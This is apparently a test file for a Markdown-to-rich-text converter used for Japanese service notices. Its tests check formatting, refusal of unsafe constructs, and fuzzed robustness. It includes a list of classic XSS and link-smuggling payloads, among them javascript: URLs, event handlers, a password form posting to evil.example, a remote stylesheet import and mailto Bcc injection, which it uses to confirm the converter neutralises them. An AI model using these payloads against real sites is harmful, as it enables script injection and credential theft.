import { RichText } from '@koshin/wire/portal/rich-text.ts';
import fc from 'fast-check';
import { Value } from 'typebox/value';
import { describe, expect, it } from 'vitest';
import { hasControl, longestText, richTextFrom } from './from-markdown.ts';
import { isLinkTarget } from './link-target.ts';
import { plainLines } from './plain-text.ts';
import { markdownProblems } from './problems.ts';
import type { Block, Inline } from './tree.ts';

const treeOf = (markdown: string) => {
  const read = richTextFrom(markdown);
  if (read.kind === 'refused') throw new Error(JSON.stringify(read.problems));
  return read.text;
};
const problemsOf = (markdown: string) => {
  const read = richTextFrom(markdown);
  return read.kind === 'refused' ? read.problems.map(({ line, what }) => `${line} ${what}`) : [];
};
const words = (text: string): Inline => ({ kind: 'text', text });
const strong = (text: string): Inline => ({ kind: 'strong', children: [words(text)] });
const paragraph = (...children: Inline[]): Block => ({ kind: 'paragraph', children });

describe('a notice in Markdown', () => {
  it('becomes paragraphs, headings, lists, strong, emphasis and links', () => {
    const source = [
      '## 日時',
      '',
      '12月6日（日）の**午前2時から**、*一部の*お取引を停止します。',
      '',
      '- 照会',
      '- **振込**',
      '',
      '1. [ホームページ](https://www.mihon.example/maintenance?d=6#time)',
      '2. <mailto:help@mihon.example>',
      '3. [0120-000-000](tel:0120-000-000)',
    ].join('\n');
    expect(treeOf(source)).toEqual([
      { kind: 'heading', children: [words('日時')] },
      paragraph(
        words('12月6日（日）の'),
        strong('午前2時から'),
        words('、'),
        { kind: 'emphasis', children: [words('一部の')] },
        words('お取引を停止します。'),
      ),
      { kind: 'list', ordered: false, items: [[words('照会')], [strong('振込')]] },
      {
        kind: 'list',
        ordered: true,
        items: [
          [
            {
              kind: 'link',
              href: 'https://www.mihon.example/maintenance?d=6#time',
              children: [words('ホームページ')],
            },
          ],
          [{ kind: 'link', href: 'mailto:help@mihon.example', children: [words('mailto:help@mihon.example')] }],
          [{ kind: 'link', href: 'tel:0120-000-000', children: [words('0120-000-000')] }],
        ],
      },
    ]);
  });

  it('breaks lines where its author did (CommonMark 6.7, 6.8), whichever line end his editor writes', () => {
    const broken = [paragraph(words('一行目'), { kind: 'break' }, words('二行目'))];
    for (const end of ['\n', '\r\n', '\r', '  \n', '\\\n']) expect(treeOf(`一行目${end}二行目`)).toEqual(broken);
  });

  it.each([
    ['本日**「点検」**を行います。', '「点検」'],
    ['**平素より。**ありがとうございます。', '平素より。'],
    ['時刻は**（午前2時）**です。', '（午前2時）'],
  ])('marks beside Japanese brackets and full stops: %s', (source, marked) => {
    expect(treeOf(source)).toEqual([paragraph(...expectedAround(source, marked))]);
  });

  it('takes for text what only looks like a mark', () => {
    for (const text of ['氏名 ______ 印', '2 * 3 * 4 = 24', 'a_b_c', '[参照]', '第1条 (1) ※', '〜~', '#重要']) {
      expect(treeOf(text)).toEqual([paragraph(words(text))]);
    }
    expect(treeOf('\\<b\\> &lt;b&gt; &amp;')).toEqual([paragraph(words('<b> <b> &'))]);
  });

  it('keeps the full-width space with which a Japanese paragraph begins', () => {
    expect(treeOf('　平素より')).toEqual([paragraph(words('　平素より'))]);
  });
});

function expectedAround(source: string, marked: string): Inline[] {
  const [before = '', after = ''] = source.split(`**${marked}**`);
  return [...(before === '' ? [] : [words(before)]), strong(marked), words(after)];
}

describe('what has no place in a notice is refused by name and line:', () => {
  it.each([
    ['一行目\n\n<b>重要</b>', ['3 html', '3 html']],
    ['<!-- memo -->', ['1 html']],
    ['一\n二 <br> 三', ['2 html']],
    ['![図](https://x.example/a.png)', ['1 image']],
    ['![図][a]\n\n[a]: https://x.example', ['1 image', '3 link-reference']],
    ['`code`', ['1 code']],
    ['    code', ['1 code']],
    ['```\ncode\n```', ['1 code']],
    ['> 引用', ['1 quote']],
    ['一\n\n***\n\n二', ['3 line']],
    ['| 日 | 時 |\n|---|---|\n| 6 | 2 |', ['2 table']],
    ['|日|\n|:-:|', ['2 table']],
    ['# 題', ['1 heading-level']],
    ['題\n===', ['1 heading-level']],
    ['### 題', ['1 heading-level']],
    ['##', ['1 heading-level']],
    ['[a](/relative)', ['1 link-target']],
    ['[a](http://x.example)', ['1 link-target']],
    ['[a](https://x.example "title")', ['1 link-title']],
    ['[](https://x.example)', ['1 link-without-text']],
    ['[a][b]\n\n[b]: https://x.example', ['1 link-reference', '3 link-reference']],
    ['- a\n- b\n  - c', ['2 list-item']],
    ['- a\n  b', ['1 list-item']],
    ['- a\n\n  b', ['1 list-item']],
    ['- a\n-', ['2 list-item']],
    ['2. a\n3. b', ['1 list-start']],
    ['***[**a**](https://x.example)***', ['1 nesting']],
    ['一\n二 **三 **四', ['2 stray-mark']],
    ['~~済~~', ['1 stray-mark']],
    ['一\n二\u202e三', ['2 control-character']],
    ['a&#x202e;b', ['1 control-character']],
    ['a\0b', ['1 control-character']],
    ['a\ud800b', ['1 control-character']],
    ['', ['1 empty']],
    [' \n\n ', ['1 empty']],
    ['あ'.repeat(longestText + 1), ['1 too-long']],
  ])('%j', (source, problems) => {
    expect(problemsOf(source)).toEqual(problems);
  });

  it('all of it at once, in the order of the lines', () => {
    expect(problemsOf('# 題\n\n<b>a</b>\n\n![x](y)\n')).toEqual(['1 heading-level', '3 html', '3 html', '5 image']);
  });

  it('but not what is as long as it may be', () => {
    expect(problemsOf(`\n\n${'あ'.repeat(longestText)}\n`)).toEqual([]);
  });
});

/** From the cheat sheets of those who look for holes, in the forms in which Markdown could let them through. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password></form>',
  '</p><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<!DOCTYPE html>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](<  javascript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://x.example/1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https:evil.example)',
  '[x](https:/evil.example)',
  '[x](https:\\\\evil.example)',
  '[x](https://mihon.example\\@evil.example)',
  '[x](https://mihon.example@evil.example/)',
  '[x](https://mihon.example:443@evil.example/)',
  '[x](https://mihon。example/)',
  '[x](https://miһon.example/)',
  '[x](https://[::1]/)',
  '[x](https://2130706433/)',
  '[x](https://0x7f.1/)',
  '[x](https://localhost/)',
  '[x](https://x.example/"onmouseover="alert(1))',
  '[x](https://x.example/ onclick=alert(1))',
  '[x](<https://x.example/><script>alert(1)</script>)',
  '[x](mailto:a@b.example?bcc=evil@evil.example)',
  '[x](mailto:a@b.example%0aBcc:evil@evil.example)',
  '[x](tel:0120-000-000;phone-context=evil.example)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](https://evil.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '[![x](https://evil.example/a.png)](https://x.example)',
  '`<script>alert(1)</script>`',
  '- <script>alert(1)</script>',
  '## <img src=x onerror=alert(1)>',
  '**<b onclick=alert(1)>x</b>**',
];

describe('the classic attacks', () => {
  it.each(attacks)('%j becomes nothing that could act', (source) => {
    const read = richTextFrom(source);
    if (read.kind === 'refused') return;
    // What is no mark at all stands there as the signs it is written in, and leads nowhere.
    expect(JSON.stringify(read.text)).not.toContain('"href"');
    expect(Value.Check(RichText, read.text)).toBe(true);
  });

  it('are refused, but for the few that are no Markdown', () => {
    const taken = attacks.filter((source) => richTextFrom(source).kind === 'text');
    expect(taken).toEqual([
      '<svg/onload=alert(1)>',
      '[x](java\tscript:alert(1))',
      '[x](<java\nscript:alert(1)>)',
      '[x](https://x.example/ onclick=alert(1))',
    ]);
  });
});

/** Pieces of which Markdown, HTML and what is neither is made. */
const piece = fc.oneof(
  fc.constantFrom(
    ...[
      '*',
      '**',
      '_',
      '`',
      '~~',
      '#',
      '## ',
      '- ',
      '1. ',
      '2) ',
      '> ',
      '    ',
      '\n',
      '\n\n',
      '  \n',
      '\\',
      '|',
      '---',
    ],
    ...[
      '[',
      ']',
      '(',
      ')',
      '![',
      '<',
      '>',
      '</',
      '"',
      '&',
      '&lt;',
      '&#x3c;',
      '&#0;',
      '&colon;',
      '\t',
      '\r',
      '\0',
      '　',
    ],
    ...[
      'javascript:',
      'https://',
      'HTTPS://',
      'mailto:',
      'tel:',
      'data:',
      '//',
      '@',
      'x.example',
      'script',
      ' onerror=',
    ],
    ...['「', '」', '。', '点検', 'a', '1', '\u202e', '\u200b', '\ufeff', '\u2028', '\ud800', '😀'],
  ),
  fc.string({ unit: 'binary', maxLength: 3 }),
);
const markdown = fc.oneof(
  fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join('')),
  fc.string({ unit: 'grapheme' }),
  fc.tuple(fc.constantFrom(...attacks), fc.nat(80), piece).map(([attack, at, put]) => {
    return attack.slice(0, at) + put + attack.slice(at);
  }),
);

function inlinesOf(tree: readonly Block[]): Inline[] {
  const within = (inline: Inline): Inline[] => [
    inline,
    ...('children' in inline ? inline.children.flatMap(within) : []),
  ];
  return tree.flatMap((block) => (block.kind === 'list' ? block.items.flat() : block.children)).flatMap(within);
}

describe('whatever is written', () => {
  it('is the closed tree or refused by names of the list; it is never anything else, and never throws', () => {
    const outcomes = { text: 0, refused: 0 };
    fc.assert(
      fc.property(markdown, (source) => {
        const read = richTextFrom(source);
        outcomes[read.kind] += 1;
        if (read.kind === 'refused') {
          expect(read.problems.length).toBeGreaterThan(0);
          const lines = source.split(/\r\n?|\n/).length;
          for (const { what, line } of read.problems) {
            expect(markdownProblems).toContain(what);
            expect(line >= 1 && line <= lines).toBe(true);
          }
          return;
        }
        expect([...Value.Errors(RichText, read.text)]).toEqual([]);
        expect(read.text.length).toBeGreaterThan(0);
        for (const inline of inlinesOf(read.text)) {
          if (inline.kind === 'link') expect(isLinkTarget(inline.href)).toBe(true);
          if (inline.kind === 'text') expect(hasControl(inline.text) || inline.text.includes('\n')).toBe(false);
        }
        expect(plainLines(read.text).length).toBeGreaterThan(0);
      }),
      { numRuns: 3000 },
    );
    expect(Math.min(outcomes.text, outcomes.refused)).toBeGreaterThan(100);
  });

  it('without marks is its own lines, word for word', () => {
    const line = fc.string({ unit: fc.constantFrom(...'お知らせシステム点検のため、abc12。（）'), minLength: 1 });
    const lines = fc.array(
      line.filter((text) => /^[^\d]/.test(text)),
      { minLength: 1, maxLength: 8 },
    );
    fc.assert(
      fc.property(lines, (all) => {
        expect(plainLines(treeOf(all.join('\n')))).toEqual(all);
      }),
    );
  });

  it.each([
    ['brackets', '['],
    ['asterisks', '*a'],
    ['quotes', '>'],
    ['nests', '*a **b '],
    ['images', '![['],
    ['lists', '- '],
    ['entities', '&'],
  ])('ends soon, also where it is all %s', (_, unit) => {
    const started = performance.now();
    richTextFrom(unit.repeat(Math.floor(longestText / unit.length)));
    expect(performance.now() - started).toBeLessThan(8000);
  });
});
